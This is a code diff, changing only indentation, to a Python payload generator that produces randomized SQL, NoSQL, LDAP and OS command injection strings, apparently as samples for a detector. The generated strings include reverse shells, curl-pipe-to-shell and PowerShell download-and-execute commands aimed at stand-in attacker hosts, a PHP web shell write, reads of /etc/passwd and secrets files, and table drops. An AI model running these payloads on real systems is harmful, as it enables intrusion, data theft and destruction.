@@ -32,7 +32,7 @@ _CMT = ("-- -", "--", "#", "/*", "-- ", ";--", "")
 def sqli_tautology(r: random.Random) -> str:
     a = rand_int(r, 1, 99)
     cond = vpick(r, (f"{a}={a}", f"'{a}'='{a}'", "'a'='a'", "true", f"{a}>{a - 1}",
-                    "'x' LIKE 'x'", f"{a} BETWEEN {a - 1} AND {a + 1}"))
+                     "'x' LIKE 'x'", f"{a} BETWEEN {a - 1} AND {a + 1}"))
     op = pick(r, ("OR", "or", "||", "Or"))
     head = pick(r, ("admin", rand_word(r), str(a), ""))
     return f"{head}{pick(r, _Q[:3])} {op} {cond}{pick(r, _CMT)}"
@@ -53,22 +53,22 @@ def sqli_union(r: random.Random) -> str:
 
 def sqli_stacked(r: random.Random) -> str:
     stmt = vpick(r, (f"DROP TABLE {pick(r, TABLES)}",
-                    f"UPDATE {pick(r, TABLES)} SET role='admin' WHERE id={rand_int(r)}",
-                    f"INSERT INTO {pick(r, TABLES)} VALUES('hacker','{rand_word(r)}')",
-                    "EXEC xp_cmdshell 'whoami'",
-                    f"DELETE FROM {pick(r, TABLES)}",
-                    "SHUTDOWN",
-                    f"CREATE USER hacker{rand_int(r, 1, 99)} IDENTIFIED BY 'pw'"))
+                     f"UPDATE {pick(r, TABLES)} SET role='admin' WHERE id={rand_int(r)}",
+                     f"INSERT INTO {pick(r, TABLES)} VALUES('hacker','{rand_word(r)}')",
+                     "EXEC xp_cmdshell 'whoami'",
+                     f"DELETE FROM {pick(r, TABLES)}",
+                     "SHUTDOWN",
+                     f"CREATE USER hacker{rand_int(r, 1, 99)} IDENTIFIED BY 'pw'"))
     return f"{rand_int(r)}{pick(r, _Q[:3])}; {stmt}{pick(r, _CMT)}"
 
 
 def sqli_time_blind(r: random.Random) -> str:
     s = r.randint(3, 15)
     body = vpick(r, (f"AND SLEEP({s})", f"AND (SELECT {rand_int(r)} FROM (SELECT(SLEEP({s})))a)",
-                    f"WAITFOR DELAY '0:0:{s}'", f"AND pg_sleep({s})",
-                    f"OR IF(1=1,SLEEP({s}),0)", f"AND BENCHMARK({s}000000,MD5(1))",
-                    f"AND 1=(SELECT 1 FROM PG_SLEEP({s}))",
-                    f"AND DBMS_PIPE.RECEIVE_MESSAGE('a',{s})=1"))
+                     f"WAITFOR DELAY '0:0:{s}'", f"AND pg_sleep({s})",
+                     f"OR IF(1=1,SLEEP({s}),0)", f"AND BENCHMARK({s}000000,MD5(1))",
+                     f"AND 1=(SELECT 1 FROM PG_SLEEP({s}))",
+                     f"AND DBMS_PIPE.RECEIVE_MESSAGE('a',{s})=1"))
     return f"{rand_int(r)}{pick(r, _Q[:3])} {body}{pick(r, _CMT)}"
 
 
@@ -86,46 +86,46 @@ def sqli_boolean_blind(r: random.Random) -> str:
 
 def sqli_error_based(r: random.Random) -> str:
     body = vpick(r, ("AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version)))",
-                    "AND UPDATEXML(1,CONCAT(0x7e,user()),1)",
-                    f"AND 1=CONVERT(int,(SELECT TOP 1 {pick(r, COLUMNS)} FROM {pick(r, TABLES)}))",
-                    "AND 1=CAST((SELECT version()) AS int)",
-                    "AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
-                    "FROM information_schema.tables GROUP BY x)a)"))
+                     "AND UPDATEXML(1,CONCAT(0x7e,user()),1)",
+                     f"AND 1=CONVERT(int,(SELECT TOP 1 {pick(r, COLUMNS)} FROM {pick(r, TABLES)}))",
+                     "AND 1=CAST((SELECT version()) AS int)",
+                     "AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
+                     "FROM information_schema.tables GROUP BY x)a)"))
     return f"{rand_int(r)}{pick(r, _Q[:2])} {body}{pick(r, _CMT)}"
 
 
 def sqli_login_bypass(r: random.Random) -> str:
     user = pick(r, ("admin", "administrator", "root", "test", "guest"))
     return vpick(r, (f"{user}'--", f"{user}' #", f"{user}'/*", f"{user}') -- -",
-                    f"' OR username='{user}'--", f"{user}' OR '1'='1'--"))
+                     f"' OR username='{user}'--", f"{user}' OR '1'='1'--"))
 
 
 def sqli_order_probe(r: random.Random) -> str:
     return vpick(r, (f"{rand_int(r)} ORDER BY {r.randint(1, 20)}-- -",
-                    f"{rand_word(r)}' GROUP BY {r.randint(1, 9)}--",
-                    f"{rand_int(r)}' ORDER BY {r.randint(1, 20)}#",
-                    f"name,(SELECT 1 FROM {pick(r, TABLES)})"))
+                     f"{rand_word(r)}' GROUP BY {r.randint(1, 9)}--",
+                     f"{rand_int(r)}' ORDER BY {r.randint(1, 20)}#",
+                     f"name,(SELECT 1 FROM {pick(r, TABLES)})"))
 
 
 def sqli_oob(r: random.Random) -> str:
     h = pick(r, ATTACKER_HOSTS)
     return vpick(r, (f"1'; EXEC master..xp_dirtree '\\\\{h}\\a'--",
-                    f"1' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',version(),'.{h}\\\\a'))-- -",
-                    f"1' AND UTL_HTTP.REQUEST('http://{h}/'||(SELECT user FROM dual))=1--",
-                    f"'; COPY (SELECT '') TO PROGRAM 'nslookup {h}'--"))
+                     f"1' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',version(),'.{h}\\\\a'))-- -",
+                     f"1' AND UTL_HTTP.REQUEST('http://{h}/'||(SELECT user FROM dual))=1--",
+                     f"'; COPY (SELECT '') TO PROGRAM 'nslookup {h}'--"))
 
 
 def sqli_file(r: random.Random) -> str:
     return vpick(r, (f"1' UNION SELECT LOAD_FILE('{pick(r, SECRETS_FILES)}'),2-- -",
-                    f"1' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE "
-                    f"'/var/www/html/{rand_word(r)}.php'-- -",
-                    f"1'; SELECT pg_read_file('{pick(r, SECRETS_FILES)}')--"))
+                     f"1' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE "
+                     f"'/var/www/html/{rand_word(r)}.php'-- -",
+                     f"1'; SELECT pg_read_file('{pick(r, SECRETS_FILES)}')--"))
 
 
 def sqli_numeric(r: random.Random) -> str:
     n = rand_int(r)
     return vpick(r, (f"{n} OR 1=1", f"{n} AND 1=0 UNION SELECT 1,2,3", f"{n}-0 OR {n}={n}",
-                    f"{n} OR true", f"({n}) OR (1)=(1)", f"{n} AND 1=1", f"-{n} OR 2>1"))
+                     f"{n} OR true", f"({n}) OR (1)=(1)", f"{n} AND 1=1", f"-{n} OR 2>1"))
 
 
 # ---------------------------------------------------------------- nosqli
@@ -136,7 +136,7 @@ _MOPS = ("$ne", "$gt", "$regex", "$nin", "$exists", "$gte", "$where", "$in")
 def nosqli_operator_json(r: random.Random) -> str:
     user = pick(r, ("admin", "root", "alice", {"$ne": None}, {"$gt": ""}))
     pw = vpick(r, ({"$ne": pick(r, ("", "x", None))}, {"$gt": ""}, {"$regex": ".*"},
-                  {"$exists": True}, {"$nin": ["a", "b"]}))
+                   {"$exists": True}, {"$nin": ["a", "b"]}))
     return json.dumps({pick(r, ("username", "user", "login", "email")): user,
                        pick(r, ("password", "pass", "pwd")): pw}, separators=(",", pick(r, (":",
                                                                                             ": "))))
@@ -156,34 +156,34 @@ def nosqli_query_operator(r: random.Random) -> str:
 def nosqli_where_js(r: random.Random) -> str:
     s = r.randint(2, 10)
     return vpick(r, ("'; return true; var x='", f"1'; sleep({s}000); var a='",
-                    "' || '1'=='1", f"{{\"$where\": \"sleep({s}000) || true\"}}",
-                    "{\"$where\": \"this.password.match(/^a/)\"}",
-                    "'; while(true){}; var y='", "this.isAdmin == true || '1'=='1",
-                    "{\"$where\": \"function(){return this.role == 'admin'}\"}"))
+                     "' || '1'=='1", f"{{\"$where\": \"sleep({s}000) || true\"}}",
+                     "{\"$where\": \"this.password.match(/^a/)\"}",
+                     "'; while(true){}; var y='", "this.isAdmin == true || '1'=='1",
+                     "{\"$where\": \"function(){return this.role == 'admin'}\"}"))
 
 
 def nosqli_regex_extract(r: random.Random) -> str:
     pre = "".join(pick(r, "abcdefghijklmnop0123") for _ in range(r.randint(0, 4)))
     return vpick(r, (f'{{"username":"admin","password":{{"$regex":"^{pre}"}}}}',
-                    f"password[$regex]=^{pre}.*&username=admin",
-                    f'{{"token":{{"$regex":"^{pre}","$options":"i"}}}}'))
+                     f"password[$regex]=^{pre}.*&username=admin",
+                     f'{{"token":{{"$regex":"^{pre}","$options":"i"}}}}'))
 
 
 def nosqli_js_injection(r: random.Random) -> str:
     return vpick(r, ("db.users.find({})", "'; db.dropDatabase(); var x='",
-                    f"{rand_int(r)}; return db.getCollectionNames()",
-                    "';this.constructor.constructor('return process')().exit();'",
-                    "admin' && this.password.length > 0 && '1'=='1",
-                    f"{{\"$function\":{{\"body\":\"function(){{sleep({r.randint(2, 9)}000)}}\","
-                    f"\"args\":[],\"lang\":\"js\"}}}}"))
+                     f"{rand_int(r)}; return db.getCollectionNames()",
+                     "';this.constructor.constructor('return process')().exit();'",
+                     "admin' && this.password.length > 0 && '1'=='1",
+                     f"{{\"$function\":{{\"body\":\"function(){{sleep({r.randint(2, 9)}000)}}\","
+                     f"\"args\":[],\"lang\":\"js\"}}}}"))
 
 
 def nosqli_aggregate(r: random.Random) -> str:
     return vpick(r, ('[{"$lookup":{"from":"users","localField":"x","foreignField":"x","as":"u"}}]',
-                    '{"$or":[{},{"a":"a"}]}', '{"filter":{"$where":"1==1"}}',
-                    f'{{"id":{{"$in":[{rand_int(r)},{{"$ne":0}}]}}}}',
-                    '{"username":{"$exists":true},"role":{"$ne":"user"}}',
-                    '{"$expr":{"$eq":[1,1]}}'))
+                     '{"$or":[{},{"a":"a"}]}', '{"filter":{"$where":"1==1"}}',
+                     f'{{"id":{{"$in":[{rand_int(r)},{{"$ne":0}}]}}}}',
+                     '{"username":{"$exists":true},"role":{"$ne":"user"}}',
+                     '{"$expr":{"$eq":[1,1]}}'))
 
 
 # ---------------------------------------------------------------- ldapi
@@ -200,20 +200,20 @@ def ldapi_wildcard_bypass(r: random.Random) -> str:
 def ldapi_filter_inject(r: random.Random) -> str:
     u = pick(r, ("admin", "administrator", "jdoe", "root", "svc_backup"))
     return vpick(r, (f"{u})(&)", f"{u})(|(password=*))", f"{u})(!(objectClass=void))",
-                    f"{u})(|(objectClass=*)", f"*)(|({pick(r, _LATTR)}=*)",
-                    f"{u}))(|(cn=*", f"{u})(userPassword=*)", f"{u})(%00"))
+                     f"{u})(|(objectClass=*)", f"*)(|({pick(r, _LATTR)}=*)",
+                     f"{u}))(|(cn=*", f"{u})(userPassword=*)", f"{u})(%00"))
 
 
 def ldapi_attr_enum(r: random.Random) -> str:
     a = pick(r, _LATTR)
     c = pick(r, "abcdefghijklmnopqrstuvwxyz0123456789")
     return vpick(r, (f"*)({a}={c}*", f"admin)({a}={c}*)", f"*))(|({a}={c}*",
-                    "x*)(|(memberOf=cn=Domain Admins,*))", f"*)(description={c}*"))
+                     "x*)(|(memberOf=cn=Domain Admins,*))", f"*)(description={c}*"))
 
 
 def ldapi_or_chain(r: random.Random) -> str:
     return vpick(r, ("(|(uid=*)(cn=*))", "admin)(|(uid=*))(&(uid=x", "(&(uid=*)(userPassword=*))",
-                    "*))%00", "(|(objectClass=*)(objectClass=users))", "x)(|(cn=admin*)"))
+                     "*))%00", "(|(objectClass=*)(objectClass=users))", "x)(|(cn=admin*)"))
 
 
 def ldapi_blind_boolean(r: random.Random) -> str:
@@ -221,13 +221,13 @@ def ldapi_blind_boolean(r: random.Random) -> str:
     c = pick(r, "abcdefghijklmnopqrstuvwxyz0123456789")
     u = pick(r, ("admin", "jsmith", "svc_ldap", "helpdesk"))
     return vpick(r, (f"{u})(&({a}={c}*)", f"{u})(!({a}={c}*))", f"{u})(|({a}>={c})",
-                    f"{u}*)(&(objectClass=person)({a}={c}*"))
+                     f"{u}*)(&(objectClass=person)({a}={c}*"))
 
 
 def ldapi_auth_bypass(r: random.Random) -> str:
     return vpick(r, ("*)(&(objectClass=*", "admin)(&(password=*)", "*)(|(userPassword=*)",
-                    f"{pick(r, ('admin', 'root', 'manager'))})(|(&)", "*)%00",
-                    "*)(cn=*))(|(cn=*", f"cn={pick(r, ('admin', 'root'))})(|(cn=*"))
+                     f"{pick(r, ('admin', 'root', 'manager'))})(|(&)", "*)%00",
+                     "*)(cn=*))(|(cn=*", f"cn={pick(r, ('admin', 'root'))})(|(cn=*"))
 
 
 # ---------------------------------------------------------------- cmdi
@@ -255,11 +255,11 @@ def cmdi_separator(r: random.Random) -> str:
 def cmdi_reverse_shell(r: random.Random) -> str:
     ip, port = pick(r, ATTACKER_IPS), r.randint(1024, 65000)
     body = vpick(r, (f"bash -i >& /dev/tcp/{ip}/{port} 0>&1", f"nc -e /bin/sh {ip} {port}",
-                    f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f",
-                    f"python3 -c 'import socket,os,pty;s=socket.socket();"
-                    f"s.connect((\"{ip}\",{port}));"
-                    f"[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'",
-                    f"php -r '$s=fsockopen(\"{ip}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");'"))
+                     f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f",
+                     f"python3 -c 'import socket,os,pty;s=socket.socket();"
+                     f"s.connect((\"{ip}\",{port}));"
+                     f"[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'",
+                     f"php -r '$s=fsockopen(\"{ip}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");'"))
     return f"{pick(r, ('127.0.0.1', 'x', ''))}{pick(r, (';', '|', '&&'))} {body}"
 
 
@@ -267,9 +267,9 @@ def cmdi_download_exec(r: random.Random) -> str:
     h = pick(r, ATTACKER_HOSTS + ATTACKER_IPS)
     f = pick(r, ("x.sh", "m", "bot", "run.sh", "k.py"))
     body = vpick(r, (f"wget http://{h}/{f} -O /tmp/{f}; sh /tmp/{f}", f"curl -s http://{h}/{f}|sh",
-                    f"curl http://{h}/{f} -o /tmp/{f} && chmod +x /tmp/{f} && /tmp/{f}",
-                    f"powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://{h}/{f}')\"",
-                    f"certutil -urlcache -split -f http://{h}/{f}.exe C:\\Windows\\Temp\\{f}.exe"))
+                     f"curl http://{h}/{f} -o /tmp/{f} && chmod +x /tmp/{f} && /tmp/{f}",
+                     f"powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://{h}/{f}')\"",
+                     f"certutil -urlcache -split -f http://{h}/{f}.exe C:\\Windows\\Temp\\{f}.exe"))
     return f"{pick(r, ('1', 'test', 'a.jpg', ''))}{pick(r, (';', '|', '&&', '%0a'))}{body}"
 
 
@@ -277,31 +277,31 @@ def cmdi_subshell(r: random.Random) -> str:
     cmd = pick(r, _CMDS[:9])
     h = pick(r, ATTACKER_HOSTS)
     return vpick(r, (f"$({cmd})", f"`{cmd}`", f"{rand_word(r)}$(sleep {r.randint(3, 12)})",
-                    f"x`ping -c {r.randint(3, 10)} 127.0.0.1`", f"$(nslookup $(whoami).{h})",
-                    f"{rand_word(r)}.txt$(curl {h}/$(id|base64))"))
+                     f"x`ping -c {r.randint(3, 10)} 127.0.0.1`", f"$(nslookup $(whoami).{h})",
+                     f"{rand_word(r)}.txt$(curl {h}/$(id|base64))"))
 
 
 def cmdi_blind(r: random.Random) -> str:
     s = r.randint(3, 20)
     return vpick(r, (f"; sleep {s}", f"| ping -c {s} 127.0.0.1", f"& ping -n {s} 127.0.0.1 &",
-                    f"|| sleep {s} ||", f"%0asleep {s}%0a", f"; timeout /T {s}",
-                    f"& nslookup {pick(r, ATTACKER_HOSTS)} &"))
+                     f"|| sleep {s} ||", f"%0asleep {s}%0a", f"; timeout /T {s}",
+                     f"& nslookup {pick(r, ATTACKER_HOSTS)} &"))
 
 
 def cmdi_arg_inject(r: random.Random) -> str:
     return vpick(r, (f"--output=/var/www/html/{rand_word(r)}.php",
-                    "-oProxyCommand=sh -c 'id>/tmp/pwn'",
-                    f"--exec=sh -c id {rand_word(r)}",
-                    "-o /dev/null --post-file=/etc/passwd http://" + pick(r, ATTACKER_HOSTS),
-                    "x -exec /bin/sh -c id ;",
-                    "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"))
+                     "-oProxyCommand=sh -c 'id>/tmp/pwn'",
+                     f"--exec=sh -c id {rand_word(r)}",
+                     "-o /dev/null --post-file=/etc/passwd http://" + pick(r, ATTACKER_HOSTS),
+                     "x -exec /bin/sh -c id ;",
+                     "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"))
 
 
 def cmdi_windows(r: random.Random) -> str:
     return vpick(r, (f"{rand_word(r)} & {pick(r, ('dir', 'whoami', 'ipconfig /all', 'net user'))}",
-                    "| type " + pick(r, ("C:\\boot.ini", "C:\\Windows\\win.ini")),
-                    "& cmd.exe /c whoami", "| powershell -enc SQBFAFgA",
-                    f"&& net user hacker{r.randint(1, 99)} P@ss /add"))
+                     "| type " + pick(r, ("C:\\boot.ini", "C:\\Windows\\win.ini")),
+                     "& cmd.exe /c whoami", "| powershell -enc SQBFAFgA",
+                     f"&& net user hacker{r.randint(1, 99)} P@ss /add"))
 
 
 INJECTION_TEMPLATES: dict[str, list[tuple[str, Template]]] = {
